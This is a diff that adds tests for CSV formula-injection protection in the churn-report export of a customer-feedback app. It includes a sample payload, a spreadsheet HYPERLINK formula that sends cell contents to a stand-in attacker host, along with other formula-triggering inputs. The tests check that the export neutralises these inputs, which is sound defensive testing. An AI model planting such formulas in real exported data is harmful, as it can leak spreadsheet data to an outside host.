@@ -242,3 +242,35 @@ def test_churn_page_and_csv_exports(session, history, client, staff):
     bad = client.get("/reports/churn.csv?table=nonsense")
     assert bad.status_code == 422 and "table: one of" in bad.text
     assert client.get("/reports/churn?from=gestern").status_code == 422
+
+
+def test_no_csv_cell_starts_a_formula(session, history, client, staff):
+    """A comment or a reason label that a spreadsheet would run (`=HYPERLINK(...)`, `@SUM`, `+`, `-`, tab) is
+    written with a leading apostrophe; numbers stay numbers."""
+    c1, *_ = history
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
+    price = reason(session, "price")
+    price.label_de, price.label_en = "@SUM(1+1)", "-2+3"
+    churn_answer(session, c1, "2026-04-16", ["price"], comment=evil, comeback="\t=1+1")
+    session.commit()
+    sign_in(client, staff)
+    for table in ("texts", "reasons", "rates"):
+        text = client.get(f"/reports/churn.csv?from=2026-04-01&to=2026-04-30&table={table}").text
+        for row in csv.reader(io.StringIO(text)):
+            for cell in row:
+                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (table, cell)
+                assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit(), (table, cell)
+    texts = client.get("/reports/churn.csv?from=2026-04-01&to=2026-04-30&table=texts").text
+    assert "'" + evil.replace('"', '""') in texts
+
+
+def test_the_csv_writer_quotes_formulas_and_keeps_numbers():
+    from kundenpuls.csvfile import csv_text, safe_cell
+
+    assert [safe_cell(v) for v in ("=1+1", "+49 171", "-x", "@A1", "\tcmd", "\rcmd")] == [
+        "'=1+1", "'+49 171", "'-x", "'@A1", "'\tcmd", "'\rcmd"
+    ]  # fmt: skip
+    assert [safe_cell(v) for v in ("-12.5", "+3", "1e5", -4, 2.5, None, "Zu teuer")] == [
+        "-12.5", "+3", "1e5", -4, 2.5, "", "Zu teuer"
+    ]  # fmt: skip
+    assert csv_text([["a", "=b"]]) == "a,'=b\r\n"
